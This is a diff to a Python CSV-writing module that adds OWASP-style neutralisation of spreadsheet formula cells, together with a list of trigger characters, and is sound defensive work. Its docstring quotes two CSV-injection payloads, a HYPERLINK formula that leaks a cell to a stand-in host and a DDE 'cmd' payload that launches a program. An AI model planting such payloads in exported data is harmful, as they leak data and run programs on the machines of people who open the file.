@@ -1,15 +1,129 @@
-"""The one per-row CSV writer of the library (benchmark pair and bullet tables)."""
+"""The one CSV writer of the project: formula-safe cells (OWASP CSV injection).
+
+A spreadsheet that opens a CSV evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
+some programs, a tab or carriage return before one) as a formula: ``=HYPERLINK("http://x/?"&A1)`` leaks
+data, ``+cmd|' /C calc'!A0`` runs a program (DDE). Every CSV the project writes (the i2 export of the
+service, the per-pair benchmark tables) goes through :func:`csv_text` / :func:`write_csv`, which
+neutralise such cells as OWASP recommends: a single quote is put in front, so the spreadsheet shows the
+text as typed and evaluates nothing.
+
+Numbers stay numbers: an ``int`` / ``float`` (numpy numbers included) is written as is, so ``-0.5``
+stays the number -0.5. A *string* is left alone only when it is one plain decimal number literal
+(``-0.5``, ``+3``, ``-1e-3``): a spreadsheet reads such a cell as that constant and nothing else. Any
+other string whose first non-blank character is a trigger is prefixed (``-1+1``, ``@SUM(1)``,
+``  =1``; full-width ``＝＋－＠`` too, which some locales treat as formula starts).
+"""
 from __future__ import annotations
 
 import csv
+import io
+import itertools
+import numbers
+import os
+import re
+from collections.abc import Iterable, Iterator, Mapping, Sequence
 from pathlib import Path
-from typing import Sequence
+from typing import Any
 
-__all__ = ["write_rows_csv"]
+from ballistic.io.atomic import atomic_write_bytes
+
+__all__ = ["FORMULA_TRIGGERS", "neutralise_cell", "csv_text", "write_csv", "write_rows_csv"]
+
+#: first characters that make a spreadsheet read a cell as a formula (OWASP), plus their full-width forms
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+_NUMBER_LITERAL = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def neutralise_cell(value: Any) -> Any:
+    """The cell to write for ``value``: numbers unchanged, formula-like strings prefixed with ``'``.
+
+    Parameters
+    ----------
+    value : any
+        A cell. ``None`` becomes ``""``; numbers (``bool``, ``int``, ``float``, numpy scalars, Decimal)
+        are returned unchanged; anything else is turned into ``str``.
+
+    Returns
+    -------
+    str or number
+        ``"'" + text`` when the text, after leading whitespace, starts with one of
+        :data:`FORMULA_TRIGGERS` and is not a plain number literal; otherwise the value itself.
+    """
+    if value is None:
+        return ""
+    if isinstance(value, numbers.Number):
+        return value
+    text = str(value)
+    if text.startswith(("\t", "\r")):
+        return "'" + text
+    head = text.lstrip()
+    if head.startswith(FORMULA_TRIGGERS) and not _NUMBER_LITERAL.fullmatch(head):
+        return "'" + text
+    return text
+
+
+def _rows(rows: Iterable[Mapping[str, Any] | Sequence[Any]], fieldnames: Sequence[str] | None,
+          extrasaction: str) -> tuple[list[str] | None, Iterator[list[Any]]]:
+    """(columns or None, cell lists) of dict or sequence rows."""
+    it = iter(rows)
+    first = next(it, None)
+    cols = list(fieldnames) if fieldnames is not None else None
+    if first is None:
+        return cols, iter(())
+    if not isinstance(first, Mapping):
+        return cols, (list(r) for r in itertools.chain([first], it))
+    cols = cols if cols is not None else list(first.keys())
+    known = set(cols)
+
+    def cells() -> Iterator[list[Any]]:
+        for r in itertools.chain([first], it):
+            if extrasaction == "raise" and not known.issuperset(r):
+                raise ValueError(f"row has fields not in fieldnames: {sorted(set(r) - known)}")
+            yield [r.get(c, "") for c in cols]
+
+    return cols, cells()
+
+
+def csv_text(rows: Iterable[Mapping[str, Any] | Sequence[Any]], fieldnames: Sequence[str] | None = None, *,
+             extrasaction: str = "raise", lineterminator: str = "\r\n") -> str:
+    """CSV text of ``rows`` (dicts or sequences), header first when there are field names; every cell,
+    header included, passes through :func:`neutralise_cell`.
+
+    Parameters
+    ----------
+    rows : iterable of mappings or sequences
+        Dict rows are written in ``fieldnames`` order (default: the first row's keys); a missing key is
+        an empty cell.
+    fieldnames : sequence of str, optional
+        Columns; a header line is written when given or when the rows are dicts.
+    extrasaction : {"raise", "ignore"}
+        What to do with dict keys that are not columns (as :class:`csv.DictWriter`).
+    lineterminator : str
+        Line ending (RFC 4180: CRLF).
+    """
+    if extrasaction not in ("raise", "ignore"):
+        raise ValueError(f"extrasaction must be 'raise' or 'ignore', got {extrasaction!r}")
+    cols, body = _rows(rows, fieldnames, extrasaction)
+    buf = io.StringIO()
+    w = csv.writer(buf, lineterminator=lineterminator)
+    if cols is not None:
+        w.writerow([neutralise_cell(c) for c in cols])
+    for r in body:
+        w.writerow([neutralise_cell(v) for v in r])
+    return buf.getvalue()
+
+
+def write_csv(path: str | os.PathLike, rows: Iterable[Mapping[str, Any] | Sequence[Any]],
+              fieldnames: Sequence[str] | None = None, *, extrasaction: str = "raise") -> Path:
+    """Write :func:`csv_text` of ``rows`` to ``path`` (UTF-8, atomically); returns the path. The parent
+    folder is created when missing."""
+    path = Path(path)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    return atomic_write_bytes(path, csv_text(rows, fieldnames, extrasaction=extrasaction).encode("utf-8"))
 
 
 def write_rows_csv(rows: list[dict], path: str | Path, *, columns: Sequence[str] | None = None) -> Path:
-    """Write rows (dicts) as CSV with a header; returns the path.
+    """Write rows (dicts) as CSV with a header through :func:`write_csv` (formula-safe); returns the path.
 
     Parameters
     ----------
@@ -21,12 +135,5 @@ def write_rows_csv(rows: list[dict], path: str | Path, *, columns: Sequence[str]
         The columns, in order; keys of a row that are not listed are left out.
         Default: the keys of the first row.
     """
-    path = Path(path)
-    with open(path, "w", newline="") as fh:
-        if columns is None:
-            w = csv.DictWriter(fh, fieldnames=list(rows[0].keys()))
-        else:
-            w = csv.DictWriter(fh, fieldnames=list(columns), extrasaction="ignore")
-        w.writeheader()
-        w.writerows(rows)
-    return path
+    cols = list(rows[0].keys()) if columns is None else list(columns)
+    return write_csv(path, rows, cols, extrasaction="raise" if columns is None else "ignore")
